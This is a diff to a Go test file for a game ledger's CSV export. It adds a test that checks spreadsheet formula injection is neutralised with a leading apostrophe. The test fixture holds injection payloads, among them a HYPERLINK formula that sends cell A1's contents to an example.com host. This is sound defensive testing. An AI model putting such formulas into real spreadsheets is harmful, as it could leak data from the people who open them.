@@ -171,14 +171,60 @@ func TestHledgerBalances(t *testing.T) {
 }
 
 // TestHledgerNamesThatWouldMerge: two names a journal would make one
-// account are refused, not summed.
+// account never reach it: the ledger refuses them.
 func TestHledgerNamesThatWouldMerge(t *testing.T) {
-	l, ps := ledger.Parse("twins.yaml", []byte("version: 1\ngame: mac\nplayers: [Bo Li, Bo  Li]\nhands: []\n"))
+	_, ps := ledger.Parse("twins.yaml", []byte("version: 1\ngame: mac\nplayers: [Bo Li, Bo  Li]\nhands: []\n"))
+	if errs := ps.Errors(); len(errs) != 1 || !strings.Contains(errs[0].Msg, "Bo  Li looks like Bo Li") {
+		t.Errorf("twins.yaml: %v", ps)
+	}
+}
+
+// TestCSVFormulasAreText: a name or a note that a spreadsheet would take
+// for a formula (= + - @, a leading tab or carriage return) is written
+// after an apostrophe, as text; the amounts the export writes, signed,
+// stay numbers.
+func TestCSVFormulasAreText(t *testing.T) {
+	l, ps := ledger.Parse("formulas.yaml", []byte(`version: 1
+game: magic
+players: [+1, -1, "@SUM(A1)", Ann]
+rules: {version: C, stakes: 1}
+money: {start: 80, bills: [1, 5, 10]}
+hands:
+  - {at: 2026-03-14T20:05:00Z, kind: adjustment, transfers: {+1: +6, -1: -6}, note: '=HYPERLINK("http://example.com/?"&A1,"click")'}
+  - {at: 2026-03-14T20:06:00Z, kind: adjustment, transfers: {Ann: +1, -1: -1}, note: "\t=1+1"}
+  - {at: 2026-03-14T20:07:00Z, kind: adjustment, transfers: {Ann: +1, -1: -1}, note: "\r=1+1"}
+  - {at: 2026-03-14T20:08:00Z, kind: adjustment, transfers: {Ann: +1, -1: -1}, note: "-6"}
+`))
 	if len(ps.Errors()) > 0 {
 		t.Fatal(ps)
 	}
-	err := Hledger(&bytes.Buffer{}, l)
-	if err == nil || !strings.Contains(err.Error(), "would be one account") {
-		t.Errorf("err = %v", err)
+	var buf bytes.Buffer
+	if err := CSV(&buf, l); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows[1:] {
+		for i, cell := range row {
+			if i == 4 || i == 7 {
+				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
+					t.Errorf("column %s: %q would be a formula", rows[0][i], cell)
+				}
+				continue
+			}
+			if i == 5 || i == 6 {
+				if _, err := strconv.Atoi(cell); err != nil {
+					t.Errorf("column %s: %q is not a number", rows[0][i], cell)
+				}
+			}
+		}
+	}
+	if got := rows[1][4] + " " + rows[2][4] + " " + rows[3][4] + " " + rows[1][7]; got != `'+1 '-1 '@SUM(A1) '=HYPERLINK("http://example.com/?"&A1,"click")` {
+		t.Errorf("cells %s", got)
+	}
+	if got := rows[2][5]; got != "-6" {
+		t.Errorf("-1's amount %q, want -6", got)
 	}
 }
